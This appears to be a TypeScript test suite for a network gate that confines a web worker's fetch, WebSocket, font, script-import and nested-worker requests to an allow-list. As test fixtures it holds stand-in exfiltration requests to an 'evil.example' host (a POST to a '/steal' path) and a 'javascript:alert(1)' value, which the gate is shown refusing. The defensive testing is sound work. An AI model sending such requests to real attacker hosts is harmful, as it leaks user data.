// The network gate refuses an origin nobody allowed before anything is sent (the wrapped fetch is
// never called), admits the app's own origin, the built-ins and what the user set, and once
// installed holds every request API of a worker scope to the same list.
import { describe, expect, it, vi } from 'vitest';
import {
  allowUserUrls,
  createNetGate,
  fontSourceUrls,
  installNetGate,
  requestUrl,
  type NetScope,
} from './net-gate';

const SELF = 'https://sift.example/assets/web.worker.js';

function gateWithSpy(builtIn: string[] = ['https://api.tavily.com']) {
  const network = vi.fn(
    async (_input: RequestInfo | URL, _init?: RequestInit) => new Response('ok'),
  );
  return { gate: createNetGate({ fetch: network, self: SELF, builtIn }), network };
}

describe('createNetGate', () => {
  it('refuses an unlisted origin with a clear error and makes no request', async () => {
    const { gate, network } = gateWithSpy();
    const refused = gate.fetch('https://evil.example/steal?q=1', { method: 'POST', body: 'x' });
    await expect(refused).rejects.toMatchObject({
      code: 'ORIGIN_NOT_ALLOWED',
      retryable: false,
      details: { origin: 'https://evil.example' },
    });
    await expect(refused).rejects.toThrow(/refused a request to https:\/\/evil\.example.*Settings/);
    expect(network).not.toHaveBeenCalled();
  });

  it('compares whole origins: another scheme, port or subdomain of an allowed host is refused', async () => {
    const { gate, network } = gateWithSpy();
    for (const url of [
      'http://api.tavily.com/search',
      'https://api.tavily.com:8443/search',
      'https://evil.api.tavily.com/',
      'https://tavily.com/',
      'ftp://api.tavily.com/',
    ]) {
      await expect(gate.fetch(url)).rejects.toMatchObject({ code: 'ORIGIN_NOT_ALLOWED' });
    }
    expect(network).not.toHaveBeenCalled();
  });

  it('admits the app, its relative URLs, the built-ins, blob: and data: URLs', async () => {
    const { gate, network } = gateWithSpy();
    await gate.fetch('/models/wordnet-synonyms.json');
    await gate.fetch('https://sift.example/models/use-lite/model.json');
    await gate.fetch(new URL('https://api.tavily.com/search'));
    await gate.fetch(new Request('https://api.tavily.com/extract'));
    await gate.fetch('blob:https://sift.example/1234');
    await gate.fetch('data:text/plain,hi');
    expect(network).toHaveBeenCalledTimes(6);
  });

  it('admits an origin once the user set it, and only that origin', async () => {
    const { gate, network } = gateWithSpy();
    expect(gate.allow('http://127.0.0.1:11434/v1')).toBe('http://127.0.0.1:11434');
    await gate.fetch('http://127.0.0.1:11434/v1/chat/completions', { method: 'POST' });
    await expect(gate.fetch('http://127.0.0.1:8080/')).rejects.toMatchObject({
      code: 'ORIGIN_NOT_ALLOWED',
    });
    expect(network).toHaveBeenCalledTimes(1);
    expect(() => gate.allow('javascript:alert(1)')).toThrow(
      expect.objectContaining({ code: 'INVALID_ARGUMENT' }) as Error,
    );
    expect(gate.origins()).toEqual([
      'https://sift.example',
      'https://api.tavily.com',
      'http://127.0.0.1:11434',
    ]);
  });
});

describe('installNetGate', () => {
  /** A worker-like scope whose request APIs record what reached the network. */
  function fakeScope() {
    const sent: string[] = [];
    class FakeXhr {
      open(_method: string, url: string | URL) {
        sent.push(`xhr ${String(url)}`);
      }
    }
    class FakeCache {
      add(r: RequestInfo | URL) {
        sent.push(`cache ${requestUrl(r)}`);
        return Promise.resolve();
      }
      addAll(rs: (RequestInfo | URL)[]) {
        for (const r of rs) sent.push(`cache ${requestUrl(r)}`);
        return Promise.resolve();
      }
    }
    class FakeWs {
      constructor(url: string | URL) {
        sent.push(`ws ${String(url)}`);
      }
    }
    class FakeEs {
      constructor(url: string | URL) {
        sent.push(`sse ${String(url)}`);
      }
    }
    const scope: NetScope = {
      fetch: async (input) => {
        sent.push(`fetch ${requestUrl(input)}`);
        return new Response('ok');
      },
      Cache: FakeCache,
      XMLHttpRequest: FakeXhr,
      WebSocket: FakeWs,
      EventSource: FakeEs,
    };
    const gate = createNetGate({
      fetch: scope.fetch,
      self: SELF,
      builtIn: ['https://huggingface.co'],
    });
    installNetGate(scope, gate);
    return { scope, sent, FakeCache, FakeXhr };
  }

  it('holds fetch, Cache.add/addAll, XMLHttpRequest, WebSocket and EventSource to the list', async () => {
    const { scope, sent, FakeCache, FakeXhr } = fakeScope();
    const evil = 'https://evil.example/x';
    await expect(scope.fetch(evil)).rejects.toMatchObject({ code: 'ORIGIN_NOT_ALLOWED' });
    await expect(Promise.resolve().then(() => new FakeCache().add(evil))).rejects.toMatchObject({
      code: 'ORIGIN_NOT_ALLOWED',
    });
    await expect(
      Promise.resolve().then(() => new FakeCache().addAll(['https://huggingface.co/a', evil])),
    ).rejects.toMatchObject({ code: 'ORIGIN_NOT_ALLOWED' });
    expect(() => new FakeXhr().open('GET', evil)).toThrow(/evil\.example/);
    expect(() => new scope.WebSocket!('wss://evil.example/socket')).toThrow(/evil\.example/);
    expect(() => new scope.EventSource!(evil)).toThrow(/evil\.example/);
    expect(sent).toEqual([]);

    await scope.fetch('https://huggingface.co/mlc-ai/model/resolve/main/config.json');
    await new FakeCache().add('https://huggingface.co/shard-1.bin');
    new FakeXhr().open('GET', '/assets/kernel.wasm');
    new scope.WebSocket!('wss://sift.example/live');
    expect(sent).toEqual([
      'fetch https://huggingface.co/mlc-ai/model/resolve/main/config.json',
      'cache https://huggingface.co/shard-1.bin',
      'xhr /assets/kernel.wasm',
      'ws wss://sift.example/live',
    ]);
  });
});

describe('installNetGate leaves no way around it', () => {
  /** A scope shaped like a real one: the request APIs on a prototype, the instance empty. */
  function protoScope(nestedWorkers: 'none' | 'blob' = 'none') {
    const sent: string[] = [];
    const record = (what: string) => (url: unknown) => sent.push(`${what} ${String(url)}`);
    const ctor = (what: string, urlArg = 0) =>
      class {
        static readonly OPEN = 1;
        constructor(...args: unknown[]) {
          record(what)(args[urlArg]);
        }
      };
    class ScopeProto {}
    Object.assign(ScopeProto.prototype, {
      fetch: async (input: RequestInfo | URL) => {
        record('fetch')(requestUrl(input));
        return new Response('ok');
      },
      importScripts: (...urls: string[]) => urls.forEach(record('importScripts')),
    });
    const scope = new ScopeProto() as unknown as NetScope;
    Object.assign(scope, {
      WebSocket: ctor('ws'),
      EventSource: ctor('sse'),
      WebTransport: ctor('webtransport'),
      FontFace: ctor('font', 1),
      Worker: ctor('worker'),
      SharedWorker: ctor('sharedworker'),
    });
    const originals = { WebSocket: scope.WebSocket, FontFace: scope['FontFace'] };
    const fetchOnProto = (ScopeProto.prototype as { fetch: FetchLike }).fetch;
    const gate = createNetGate({ fetch: fetchOnProto, self: SELF, builtIn: [] });
    installNetGate(scope, gate, { nestedWorkers });
    return { scope, sent, ScopeProto, originals };
  }
  type FetchLike = (input: RequestInfo | URL) => Promise<Response>;
  type Ctor = new (...a: unknown[]) => object;
  const EVIL = 'https://evil.example/x';

  it('gates fetch on the prototype, not only on the instance', async () => {
    const { scope, sent, ScopeProto } = protoScope();
    const protoFetch = (ScopeProto.prototype as { fetch: FetchLike }).fetch;
    await expect(protoFetch.call(scope, EVIL)).rejects.toMatchObject({
      code: 'ORIGIN_NOT_ALLOWED',
    });
    await protoFetch.call(scope, '/own.json');
    expect(sent).toEqual(['fetch /own.json']);
  });

  it('leaves no path from a gated constructor back to the original', () => {
    const { scope, sent, originals } = protoScope();
    const Ws = scope.WebSocket as unknown as Ctor;
    const reached = [
      Object.getPrototypeOf(Ws) as unknown,
      (Ws.prototype as { constructor: unknown }).constructor,
      ((originals.WebSocket as unknown as Ctor).prototype as { constructor: unknown }).constructor,
    ];
    expect(reached).not.toContain(originals.WebSocket);
    for (const C of reached)
      if (typeof C === 'function' && C !== Function.prototype)
        expect(() => new (C as Ctor)('wss://evil.example/')).toThrow(/evil\.example/);
    expect(() => new Ws('wss://evil.example/')).toThrow(/evil\.example/);
    // statics and instanceof still hold
    expect((Ws as unknown as { OPEN: number }).OPEN).toBe(1);
    expect(new Ws('wss://sift.example/live')).toBeInstanceOf(Ws);
    expect(sent).toEqual(['ws wss://sift.example/live']);
  });

  it('refuses EventSource, WebTransport, a remote FontFace and importScripts elsewhere', () => {
    const { scope, sent } = protoScope();
    const C = (name: string) => scope[name] as Ctor;
    expect(() => new (C('EventSource'))(EVIL)).toThrow(/evil\.example/);
    expect(() => new (C('WebTransport'))('https://evil.example:4433/wt')).toThrow(/evil/);
    expect(() => new (C('FontFace'))('x', `url(${EVIL})`)).toThrow(/evil\.example/);
    expect(() => new (C('FontFace'))('x', `local(a), url( "${EVIL}" )`)).toThrow(/evil/);
    const importScripts = scope.importScripts!;
    expect(() => importScripts('/own.js', EVIL)).toThrow(/evil\.example/);
    new (C('FontFace'))('x', new ArrayBuffer(4));
    new (C('FontFace'))('x', 'url(/fonts/own.woff2)');
    expect(sent).toEqual(['font [object ArrayBuffer]', 'font url(/fonts/own.woff2)']);
  });

  it('refuses nested workers (they would run ungated); the LLM worker may start blob: ones', () => {
    const strict = protoScope('none');
    const W = strict.scope['Worker'] as Ctor;
    for (const url of ['blob:https://sift.example/1', 'data:text/javascript,1', '/w.js', EVIL])
      expect(() => new W(url)).toThrow(/nested worker/);
    expect(() => new (strict.scope['SharedWorker'] as Ctor)('/w.js')).toThrow(/nested worker/);
    expect(strict.sent).toEqual([]);
    const llm = protoScope('blob');
    new (llm.scope['Worker'] as Ctor)('blob:https://sift.example/1');
    expect(() => new (llm.scope['Worker'] as Ctor)('data:text/javascript,1')).toThrow(/nested/);
    expect(llm.sent).toEqual(['worker blob:https://sift.example/1']);
  });
});

describe('fontSourceUrls', () => {
  it('reads every url() of a source and refuses a source it cannot read', () => {
    expect(fontSourceUrls(`url("a.woff"), url('b.woff') format("woff"), url(c.woff)`)).toEqual([
      'a.woff',
      'b.woff',
      'c.woff',
    ]);
    expect(fontSourceUrls('local(Arial)')).toEqual([]);
    expect(fontSourceUrls(new ArrayBuffer(2))).toEqual([]);
    expect(fontSourceUrls('URL\\(https://evil.example/f)')).toHaveLength(1);
  });
});

describe('allowUserUrls', () => {
  it('allows the URLs a method carries before calling it; a bad URL is left to the method', async () => {
    const { gate, network } = gateWithSpy([]);
    const api = {
      async useHttp(config: { baseUrl: string }) {
        return gate.fetch(`${config.baseUrl}/models`).then((r) => r.status);
      },
      async other(url: string) {
        return gate.fetch(url).then((r) => r.status);
      },
    };
    const wrapped = allowUserUrls(api, gate, { useHttp: (c) => [c.baseUrl] });
    expect(await wrapped.useHttp({ baseUrl: 'http://localhost:11434/v1' })).toBe(200);
    await expect(wrapped.other('https://elsewhere.example/')).rejects.toMatchObject({
      code: 'ORIGIN_NOT_ALLOWED',
    });
    await expect(wrapped.useHttp({ baseUrl: 'ftp://files.example' })).rejects.toMatchObject({
      code: 'ORIGIN_NOT_ALLOWED',
    });
    expect(network).toHaveBeenCalledTimes(1);
  });
});
